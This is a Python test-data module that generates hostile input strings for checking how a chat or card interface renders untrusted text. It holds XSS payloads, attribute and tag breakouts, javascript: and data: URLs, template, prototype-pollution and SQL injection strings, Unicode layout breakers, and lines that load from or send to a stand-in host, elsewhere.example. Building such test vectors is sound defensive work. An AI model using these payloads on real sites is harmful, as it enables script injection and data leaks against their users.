"""What somebody may write who wants a page to run it, to leak to elsewhere, or to fall apart. All written by us.

Whatever runs says so: it calls `window.alarm.push`, opens a dialog or asks `elsewhere.example`.
"""

from collections.abc import Iterator

ELSEWHERE = "elsewhere.example"
# Ways to say that something ran; none has quotes, so that each fits into any attribute.
_CALLS = ("alert(1)", "window.alarm.push(1)", f"fetch(/https:..{ELSEWHERE}/.source)")
_LOUD = _CALLS[0]

# Markup that runs when it is parsed as HTML. {x} is what runs.
_MARKUP = (
    "<script>{x}</script>",
    "<ScRiPt>{x}</sCrIpT>",
    "<script/src=//elsewhere.example/a.js></script>",
    "<script type=module>{x}</script>",
    "<<script>{x}//<</script>",
    "<scr<script>ipt>{x}</scr</script>ipt>",
    "<img src=x onerror={x}>",
    '<img src="x" onerror="{x}">',
    "<img src=x onerror='{x}'>",
    "<img/src=x/onerror={x}>",
    "<img src=//elsewhere.example/pixel.png>",
    "<img srcset='//elsewhere.example/pixel.png 1x'>",
    "<svg onload={x}>",
    "<svg><script>{x}</script></svg>",
    "<svg><animate onbegin={x} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{x}><text y=20>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload={x}>></svg>",
    "<math><mtext></p><img src=x onerror={x}></mtext></math>",
    "<iframe src=javascript:{x}></iframe>",
    '<iframe srcdoc="<script>parent.{x}</script>"></iframe>',
    "<iframe src=//elsewhere.example></iframe>",
    "<object data=javascript:{x}></object>",
    "<embed src=javascript:{x}>",
    "<body onload={x}>",
    "<details open ontoggle={x}>x</details>",
    "<input autofocus onfocus={x}>",
    "<select autofocus onfocus={x}>",
    "<textarea autofocus onfocus={x}>",
    "<video><source onerror={x}></video>",
    "<audio src=x onerror={x}>",
    "<marquee onstart={x}>x</marquee>",
    "<div onpointerover={x} style=position:fixed;inset:0>x</div>",
    "<style>@import '//elsewhere.example/a.css';</style>",
    "<style>*{{background:url(//elsewhere.example/a.png)}}</style>",
    "<link rel=stylesheet href=//elsewhere.example/a.css>",
    "<link rel=preload as=image href=//elsewhere.example/a.png>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<base href=//elsewhere.example/>",
    "<form action=//elsewhere.example><button autofocus>x</button></form>",
    "<template><script>{x}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<sahay-chat api=//elsewhere.example></sahay-chat>",
    "<dialog open onclick={x}>x</dialog>",
    "<p is=x onanimationstart={x} style=animation:rise>x",
)
# Ways out of the place in which a text may have been put.
_BREAKOUTS = (
    '"><img src=x onerror={x}>',
    "'><img src=x onerror={x}>",
    "</textarea><img src=x onerror={x}>",
    "</title><script>{x}</script>",
    "</script><script>{x}</script>",
    "</style><script>{x}</script>",
    "--><script>{x}</script>",
    "]]><script>{x}</script>",
    '" onerror="{x}" x="',
    "' onclick='{x}' x='",
    '" autofocus onfocus={x} x="',
    "`-{x}-`",
    "${{{x}}}",
    "'-{x}-'",
    '");{x}//',
    "\\');{x}//",
    "*/{x}/*",
    "}}</style><script>{x}</script>",
)
# Addresses that run or read something.
_ADDRESSES = (
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    "java\tscript:{x}",
    "java\nscript:{x}",
    " javascript:{x}",
    "\u0001javascript:{x}",
    "javascript://example.com/%0a{x}",
    "javascript&colon;{x}",
    "&#106;avascript:{x}",
    "&#x6A&#x61&#x76&#x61script:{x}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{x}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={x}>",
    "blob:https://example.com/1",
    "file:///etc/passwd",
    "//elsewhere.example/a",
    "\\\\elsewhere.example\\a",
    "http://elsewhere.example@example.com/",
    "https://example.com/?q=<script>{x}</script>",
    'https://example.com/"onclick="{x}',
    "https://example.com/'onclick='{x}",
    "mailto:a@example.com?body=<script>{x}</script>",
    "tel:+91<img src=x onerror={x}>",
    "[x](javascript:{x})",
    "![x](//elsewhere.example/a.png)",
    "[![x](x)](javascript:{x})",
    "<javascript:{x}>",
    '[x](x "onmouseover={x}")',
)
# Letters that look like markup, or are decoded into it by who decodes too much.
_ENCODED = (
    "&lt;script&gt;{x}&lt;/script&gt;",
    "&#60;script&#62;{x}&#60;/script&#62;",
    "%3Cscript%3E{x}%3C/script%3E",
    "\\u003cscript\\u003e{x}\\u003c/script\\u003e",
    "\\x3cimg src=x onerror={x}\\x3e",
    "\uff1cscript\uff1e{x}\uff1c/script\uff1e",
    "+ADw-script+AD4-{x}+ADw-/script+AD4-",
    "<\u200bscript>{x}</script>",
    "<img src=x on\u200derror={x}>",
    "<script\u2028>{x}</script>",
    "<img\u00a0src=x\u00a0onerror={x}>",
    "\ufeff<script>{x}</script>",
)
# Templates, objects and queries of those who put texts together.
_INJECTIONS = (
    "{{{{constructor.constructor('{x}')()}}}}",
    "{{{{7*7}}}}",
    "<%= {x} %>",
    "#{{7*7}}",
    "{name}",
    "{n}",
    "%s%s%n",
    "__proto__",
    "constructor",
    "toString",
    '{{"__proto__": {{"isAdmin": true}}}}',
    '{{"kind": "order", "title": "<img src=x onerror={x}>"}}',
    "data: owner\n\nevent: owner\ndata: {{}}",
    "\r\n\r\nid: 9999\r\ndata: x",
    "'; DROP TABLE message; --",
    "/restart",
    "/app_rate_5",
    "javascript",
)
# What turns, hides or breaks what stands around it.
_LAYOUT = (
    "\u202egpj.exe",
    "safe\u202etxt.exe\u202c",
    "\u2067abc\u2066def",
    "\u202d\u202e\u2066" * 20,
    "\u200f\u200e\u061c abc",
    "\u05d0\u05d1\u05d2 abc \u0627\u0644\u0637\u0644\u0628 10234",
    "\u200b" * 50 + "x",
    "a\u200cb\u200dc\u2060d\ufeffe",
    "\u00ad".join("soft-hyphens"),
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 20,
    "\u0915\u094d" * 75,
    "\u0a95\u0acd\u0ab7" * 50,
    "W" * 160,
    "\ufdfd" * 30,
    "\U00012031" * 30,
    "https://example.com/" + "a" * 140,
    "a" * 80 + "@" + "b" * 70 + ".example",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\n" * 60 + "x",
    "\t" * 60 + "x",
    "\u3000" * 60 + "x",
    ("x" + "\u00a0") * 70,
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "*bold* _italic_ ~gone~ `code` > quote\n- one\n- two\n1. three",
    "\x1b[31mred\x1b[0m\x07",
    "\ufffd\ufffe\U000e0041\U000e0042",
)


def vectors() -> list[str]:
    """Each once, 160 characters at most, as a card's fields hold."""
    return list(dict.fromkeys(vector[:160] for vector in _all()))


def giants() -> list[str]:
    """Too long for anything but a message."""
    return [
        "W" * 2000,
        "\u0939\u093f\u0928\u094d\u0926\u0940" * 300,
        "<b>" * 600,
        "\u202e" + "abc " * 400,
        "\n".join("x" * 400),
    ]


def _all() -> Iterator[str]:
    for shapes in (_MARKUP, _BREAKOUTS, _ADDRESSES, _ENCODED, _INJECTIONS):
        for shape in shapes:
            yield shape.replace("{{", "{").replace("}}", "}").replace("{x}", _LOUD)
    for call in _CALLS[1:]:
        for shape in (*_MARKUP, *_BREAKOUTS):
            if "{x}" in shape:
                yield shape.replace("{{", "{").replace("}}", "}").replace("{x}", call)
    yield from _LAYOUT
